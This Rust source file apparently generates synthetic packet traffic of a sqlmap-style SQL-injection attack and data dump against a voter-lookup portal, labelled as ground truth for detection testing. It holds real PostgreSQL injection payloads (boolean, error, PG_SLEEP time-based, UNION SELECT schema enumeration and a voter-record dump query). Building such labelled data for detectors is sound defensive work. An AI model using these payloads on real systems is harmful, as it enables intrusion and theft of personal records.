//! SQL injection against the portal's lookup page by 203.0.113.66, sqlmap-style:
//!
//! - 13:00:20 a look at the site in a browser (plain HTTP);
//! - 13:01:00 detection: boolean-, error- and time-based payloads in the `voter_id` query
//!   parameter and in a POST body (sqlmap's User-Agent), each passed on to the database;
//! - 13:04:00 extraction over HTTP: UNION SELECT dumps of the voters table (large responses);
//! - 13:06:00 the same client reads about 4 MB more over HTTPS (data segments snapped to 128
//!   bytes in the file; the wire lengths are kept).

use super::benign::light_background;
use super::common::*;
use crate::flow::{Dir, TcpSession, Wire};
use crate::net::{self, Host, NS_PER_MS, NS_PER_SEC};
use crate::protocols::http::{self, url_encode, Request};
use crate::protocols::{postgres, tls};

pub const ATTACKER: [u8; 4] = [203, 0, 113, 66];

/// Detection payloads appended to `voter_id=` (sqlmap's shapes).
const PROBES: &[&str] = &[
    "1'",
    "1\"",
    "1'\"(,..)(,'",
    "1 AND 5821=5821",
    "1 AND 5821=5822",
    "1' AND 5821=5821 AND 'qWrt'='qWrt",
    "1' AND 5821=5822 AND 'qWrt'='qWrt",
    "1) AND 3377=3377 AND (8251=8251",
    "1 AND 7412=CAST((CHR(113)||CHR(122)||CHR(118)||CHR(106)||CHR(113))||(SELECT (CASE WHEN (7412=7412) THEN 1 ELSE 0 END))::text||(CHR(113)||CHR(112)||CHR(106)||CHR(122)||CHR(113)) AS NUMERIC)",
    "1;SELECT PG_SLEEP(5)--",
    "1 AND 4731=(SELECT 4731 FROM PG_SLEEP(5))",
    "1 ORDER BY 1-- -",
    "1 ORDER BY 6-- -",
    "1 ORDER BY 4-- -",
    "1 UNION ALL SELECT NULL,NULL,NULL,NULL-- -",
    "1 UNION ALL SELECT NULL,(CHR(113)||CHR(122)||CHR(118)||CHR(106)||CHR(113))||(CHR(77)||CHR(107))||(CHR(113)||CHR(112)||CHR(106)||CHR(122)||CHR(113)),NULL,NULL-- -",
    "1 UNION ALL SELECT NULL,current_database()||'~'||current_user||'~'||version(),NULL,NULL-- -",
    "1 UNION ALL SELECT NULL,string_agg(table_name,','),NULL,NULL FROM information_schema.tables WHERE table_schema='public'-- -",
    "1 UNION ALL SELECT NULL,string_agg(column_name,','),NULL,NULL FROM information_schema.columns WHERE table_name='voters'-- -",
];

fn lookup_sql(voter_id: &str) -> String {
    format!(
        "SELECT voter_id, status, precinct, election_date FROM voters WHERE voter_id = {voter_id}"
    )
}

fn injected_response(ctx: &mut Ctx, payload: &str) -> (Vec<u8>, Vec<u8>, u64) {
    let is_error = payload.contains('\'') && !payload.contains("'qWrt'='qWrt")
        || payload.contains('"')
        || payload.contains("ORDER BY 6");
    let sleeps = payload.contains("SLEEP");
    if is_error {
        let msg = "syntax error at or near \"'\"";
        let body = format!("<html><body><b>Warning</b>: pg_query(): Query failed: ERROR:  {msg} LINE 1: ...ction_date FROM voters WHERE voter_id = {payload} in <b>/var/www/portal/lookup.php</b> on line <b>42</b></body></html>\n");
        let r = http::response(
            500,
            "Internal Server Error",
            "text/html; charset=UTF-8",
            &[("X-Powered-By", "PHP/7.4.33".into())],
            body.as_bytes(),
        );
        (r, postgres::error(msg), 0)
    } else {
        let rows = if payload.contains("5822") { 0 } else { 1 };
        let dbr = if rows == 0 {
            postgres::result(&["voter_id", "status", "precinct", "election_date"], &[])
        } else {
            voter_lookup_reply(&mut ctx.rng)
        };
        let size = if rows == 0 { 900 } else { 2400 };
        let page = http::html_page(&mut ctx.rng, "Voter lookup", size);
        let r = http::response(
            200,
            "OK",
            "text/html; charset=UTF-8",
            &[("X-Powered-By", "PHP/7.4.33".into())],
            &page,
        );
        (r, dbr, if sleeps { 5 * NS_PER_SEC } else { 0 })
    }
}

/// One keep-alive connection of injection requests, each also seen as the portal's database
/// query. Returns the session's last packet time.
fn attack_connection(
    ctx: &mut Ctx,
    attacker: Host,
    t: u64,
    reqs: &[(Vec<u8>, String)],
    rtt_c: u64,
) -> u64 {
    let portal = net::portal();
    let port = ctx.port(&attacker);
    let mut s = TcpSession::new(
        &mut ctx.rng,
        attacker,
        port,
        portal,
        80,
        Wire::between(&attacker, &portal),
        t,
        rtt_c,
        150_000,
    );
    s.handshake(&mut ctx.tl);
    for (req, payload) in reqs {
        s.send(&mut ctx.tl, Dir::ToServer, req);
        let (resp, dbr, sleep) = injected_response(ctx, payload);
        let at = s.now + 2 * NS_PER_MS;
        let db_end = portal_db(ctx, at, &lookup_sql(payload), &dbr);
        let done = db_end.max(at + sleep);
        s.now = done;
        s.send(&mut ctx.tl, Dir::ToClient, &resp);
        s.now += rtt_c;
        // sqlmap fires the next request as soon as the answer is in.
        s.wait(&mut ctx.tl, ctx.rng.range(5, 60) * NS_PER_MS);
    }
    s.close(&mut ctx.tl, Dir::ToServer);
    s.last
}

pub fn build(ctx: &mut Ctx) {
    let t0 = net::START_NS;
    // Other seeds: the attacker, its round trip, when it starts and how much it reads.
    let (attacker, rtt, off, bulk) = if ctx.varied {
        let a = ctx.outside_client();
        let r = &mut ctx.rng;
        (
            a,
            r.range(15, 120) * NS_PER_MS,
            r.range(0, 180) * NS_PER_SEC,
            r.range(7, 16) as usize,
        )
    } else {
        let a = net::external(
            net::v4(ATTACKER[0], ATTACKER[1], ATTACKER[2], ATTACKER[3]),
            net::Os::Linux,
            14,
        );
        (a, 48 * NS_PER_MS, 0, 8)
    };
    // Other seeds keep more citizens around the attack: the pull detection compares the
    // attacker with the median of the portal's other clients (at least 3 seen before).
    let visits = if ctx.varied { 8 } else { 5 };
    light_background(ctx, t0, 480 * NS_PER_SEC + off, visits, 31);
    let t0 = t0 + off;

    // A first look with a browser.
    let ua = http::UA_FIREFOX;
    let page = http::html_page(&mut ctx.rng, "Check your registration", 3000);
    let lookup = http::html_page(&mut ctx.rng, "Voter lookup", 2400);
    let pairs = vec![
        (
            Request::get("/", net::PORTAL_NAME, ua).encode(),
            http::ok_html(&page),
        ),
        (
            Request::get("/lookup.php?voter_id=100234", net::PORTAL_NAME, ua)
                .header("Referer", format!("http://{}/", net::PORTAL_NAME))
                .encode(),
            http::ok_html(&lookup),
        ),
    ];
    http_session(
        ctx,
        attacker,
        net::portal(),
        80,
        t0 + 20 * NS_PER_SEC,
        rtt,
        150_000,
        &pairs,
        (3 * NS_PER_SEC, 9 * NS_PER_SEC),
    );

    // Detection, in connections of a few requests each (sqlmap reconnects now and then).
    let mut t = t0 + 60 * NS_PER_SEC;
    for chunk in PROBES.chunks(5) {
        let reqs: Vec<(Vec<u8>, String)> = chunk
            .iter()
            .map(|p| {
                let target = format!("/lookup.php?voter_id={}", url_encode(p));
                let req = Request::get(&target, net::PORTAL_NAME, http::UA_SQLMAP)
                    .header("Cache-Control", "no-cache")
                    .encode();
                (req, p.to_string())
            })
            .collect();
        t = attack_connection(ctx, attacker, t, &reqs, rtt) + ctx.rng.range(300, 900) * NS_PER_MS;
    }
    // The same in the lookup form's POST body.
    let bodies = [
        "last_name=SMITH&dob=1970-01-01&zip=62701' AND 2911=2911-- -",
        "last_name=SMITH&dob=1970-01-01&zip=62701' AND 2911=2912-- -",
        "last_name=SMITH' OR '1'='1&dob=1970-01-01&zip=62701",
        "last_name=SMITH&dob=1970-01-01&zip=62701' AND 9127=(SELECT 9127 FROM PG_SLEEP(5))-- -",
    ];
    let reqs: Vec<(Vec<u8>, String)> = bodies
        .iter()
        .map(|b| {
            let req = Request::post(
                "/lookup.php",
                net::PORTAL_NAME,
                http::UA_SQLMAP,
                "application/x-www-form-urlencoded; charset=utf-8",
                b.as_bytes(),
            )
            .encode();
            let inj = b.rsplit('=').next().unwrap_or("").to_string();
            (req, inj)
        })
        .collect();
    attack_connection(ctx, attacker, t, &reqs, rtt);

    // Extraction: UNION dumps of 800 voters each.
    let mut t = t0 + 240 * NS_PER_SEC;
    for page_no in 0..3u32 {
        let payload = format!("1 UNION ALL SELECT NULL,voter_id||'|'||first_name||'|'||last_name||'|'||dob||'|'||address||'|'||city||'|'||zip||'|'||status,NULL,NULL FROM voters ORDER BY 2 LIMIT 800 OFFSET {}-- -", page_no * 800);
        let target = format!("/lookup.php?voter_id={}", url_encode(&payload));
        let req = Request::get(&target, net::PORTAL_NAME, http::UA_SQLMAP).encode();
        let dump = http::voter_dump(&mut ctx.rng, 100_000 + page_no * 800, 800);
        let resp = http::response(
            200,
            "OK",
            "text/html; charset=UTF-8",
            &[("X-Powered-By", "PHP/7.4.33".into())],
            &dump,
        );
        let rows: Vec<Vec<String>> = dump
            .split(|&b| b == b'\n')
            .filter(|l| l.starts_with(b"<tr>"))
            // The row's text between "<tr><td>" and "</td></tr>".
            .map(|l| {
                let cell = l.get(8..l.len().saturating_sub(10)).unwrap_or_default();
                vec![String::from_utf8_lossy(cell).into_owned()]
            })
            .collect();
        let dbr = postgres::result(&["?column?"], &rows);
        let port = ctx.port(&attacker);
        let portal = net::portal();
        let mut s = TcpSession::new(
            &mut ctx.rng,
            attacker,
            port,
            portal,
            80,
            Wire::between(&attacker, &portal),
            t,
            rtt,
            150_000,
        );
        s.gap = 40_000; // the portal's uplink runs flat out
        s.handshake(&mut ctx.tl);
        s.send(&mut ctx.tl, Dir::ToServer, &req);
        let db_end = portal_db(ctx, s.now + NS_PER_MS, &lookup_sql(&payload), &dbr);
        s.now = db_end + 3 * NS_PER_MS;
        s.send(&mut ctx.tl, Dir::ToClient, &resp);
        s.now += rtt;
        s.wait(&mut ctx.tl, 200 * NS_PER_MS);
        s.close(&mut ctx.tl, Dir::ToServer);
        t = s.last + ctx.rng.range(2, 6) * NS_PER_SEC;
    }

    // Encrypted bulk read: 8 requests of about 500 kB each, data segments snapped.
    let port = ctx.port(&attacker);
    let portal = net::portal();
    let mut s = TcpSession::new(
        &mut ctx.rng,
        attacker,
        port,
        portal,
        443,
        Wire::between(&attacker, &portal),
        t0 + 360 * NS_PER_SEC,
        rtt,
        150_000,
    );
    s.gap = 40_000;
    s.handshake(&mut ctx.tl);
    tls_handshake(ctx, &mut s, tls::Client::OpenSsl, net::PORTAL_NAME);
    s.snap = Some(128);
    let exchanges: Vec<(usize, usize)> = (0..bulk)
        .map(|_| {
            (
                ctx.rng.range(700, 900) as usize,
                ctx.rng.range(480_000, 540_000) as usize,
            )
        })
        .collect();
    tls_exchanges(ctx, &mut s, &exchanges, (NS_PER_SEC, 3 * NS_PER_SEC));
    tls_close(ctx, &mut s, true);
    let portal = net::portal().ip;
    let span = (t0 + 20 * NS_PER_SEC, s.last);
    ctx.truth(
        "sqli",
        attacker.ip,
        portal,
        span,
        "sqlmap against /lookup.php".into(),
    );
    ctx.truth(
        "data-pulled",
        attacker.ip,
        portal,
        span,
        format!("{bulk} HTTPS reads of about 500 kB"),
    );
}
